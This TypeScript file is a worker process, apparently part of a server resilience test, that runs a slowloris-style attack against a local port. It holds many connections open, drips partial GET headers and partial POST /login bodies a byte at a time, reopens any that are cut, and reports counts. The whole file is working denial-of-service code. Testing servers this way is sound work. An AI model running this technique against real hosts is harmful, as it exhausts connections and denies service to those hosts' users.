/**
 * A process of its own, so that the attack does not slow down whoever measures: told `{ port, sockets }` it holds that many
 * connections, each sending a request a byte at a time, and opens another for each that is cut; told `'stop'` it
 * closes them all. It reports how many stand and how many were cut.
 */
import net from 'node:net'

/** Between two bytes of one connection. */
const BYTE_EVERY_MS = 1000
/** Connections are served in so many groups, one after the other, so that their bytes do not come all at once. */
const GROUPS = 50

const HEAD = Buffer.from(`GET /status/1 HTTP/1.1\r\nHost: localhost\r\nX-Slow: ${'x'.repeat(200)}`)
const BODY_HEAD = Buffer.from(
  'POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"',
)

interface Drip {
  socket: net.Socket
  bytes: Buffer
  sent: number
}

const drips = new Map<number, Drip>()
let cut = 0
let timer: NodeJS.Timeout | undefined

function open(port: number, index: number): void {
  const socket = net.connect({ host: '127.0.0.1', port })
  const inBody = index % 2 === 1
  const drip: Drip = { socket, bytes: inBody ? Buffer.alloc(1000, ' ') : HEAD, sent: 0 }
  if (inBody) socket.write(BODY_HEAD)
  drips.set(index, drip)
  socket.on('error', () => undefined).resume()
  socket.on('close', () => {
    if (timer === undefined) return
    cut++
    setTimeout(() => timer !== undefined && open(port, index), 100)
  })
}

function start(port: number, sockets: number): void {
  for (let index = 0; index < sockets; index++)
    setTimeout(() => open(port, index), (index / sockets) * 1000)
  let group = 0
  timer = setInterval(() => {
    group = (group + 1) % GROUPS
    for (const [index, drip] of drips) {
      if (index % GROUPS !== group || !drip.socket.writable) continue
      const { bytes, sent } = drip
      drip.socket.write(bytes.subarray(sent % bytes.length, (sent % bytes.length) + 1))
      drip.sent++
    }
  }, BYTE_EVERY_MS / GROUPS)
}

function stop(): void {
  clearInterval(timer)
  timer = undefined
  for (const { socket } of drips.values()) socket.destroy()
  drips.clear()
}

process.on('message', (message: 'stop' | 'look' | { port: number; sockets: number }) => {
  if (message === 'stop') stop()
  else if (message !== 'look') start(message.port, message.sockets)
  const standing = [...drips.values()].filter(({ socket }) => socket.readyState === 'open').length
  process.send?.({ standing, cut })
})
process.on('disconnect', () => process.exit(0))
